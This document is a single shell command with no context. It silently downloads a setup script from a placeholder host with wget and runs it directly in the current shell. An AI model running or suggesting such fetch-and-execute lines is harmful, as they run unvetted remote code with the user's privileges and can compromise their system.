source <(wget -qO- http://h.example/setup.sh)
